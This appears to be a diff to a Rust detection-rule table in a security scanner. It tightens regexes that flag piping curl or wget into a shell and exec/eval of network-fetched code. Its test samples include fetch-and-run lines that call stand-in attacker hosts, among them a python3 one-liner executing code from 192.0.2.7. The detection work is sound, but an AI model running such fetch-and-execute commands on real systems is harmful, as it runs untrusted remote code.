@@ -35,7 +35,7 @@ pub(super) const RULES: &[Rule] = &[
             keywords: &["curl", "wget", "aria2c", "lwp-download"],
             pattern: concat!(
                 fetcher!(),
-                r"\s[^\n|`]*(?:https?://|ftp://|\$\{?\w|[a-z0-9-]\.[a-z]{2,})[^\n|`]*",
+                r"\s[^\n|`]*(?:https?://|ftp://|\$[({\w]|[a-z0-9-]\.[a-z]{2,})[^\n|`]*",
                 r"(?:\s*\|\s*[^\n|`]*)*\s*\|\s*",
                 shell!()
             ),
@@ -139,6 +139,7 @@ pub(super) const RULES: &[Rule] = &[
             "eval(await (await fetch('https://a.attacker.example/x.js')).text())",
             "exec(urllib.request.urlopen(url).read())",
             "new Function(await (await fetch(url)).text())()",
+            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://192.0.2.7/x').read())\"",
         ],
         misses: &[
             "result = requests.get(url).json()",
@@ -148,10 +149,9 @@ pub(super) const RULES: &[Rule] = &[
         look: Look::Pattern {
             keywords: &["exec(", "eval(", "exec (", "eval (", "new function"],
             pattern: concat!(
-                r"(?:\b(?:exec|eval)|\bnew\s+function)\s*\(\s*(?:compile\s*\(\s*)?",
-                r"(?:\(?\s*await\s+)*\(?\s*(?:\(?\s*await\s+)*",
-                r"(?:requests\s*\.|urllib|urlopen|httpx\s*\.|fetch\s*\(|axios",
-                r"|__import__\(\s*['\x22](?:requests|urllib)|open-uri|uri\.open)[^\n]*",
+                r"(?:\b(?:exec|eval)|\bnew\s+function)\s*\((?:[^\n)]*[^\w\n)])?",
+                r"(?:requests\s*\.\s*get|urllib\s*\.|urlopen\s*\(|httpx\s*\.\s*get|fetch\s*\(",
+                r"|axios\s*[.(]|uri\.open)[^\n]*",
             ),
             judge: Judge::AsItIs,
         },
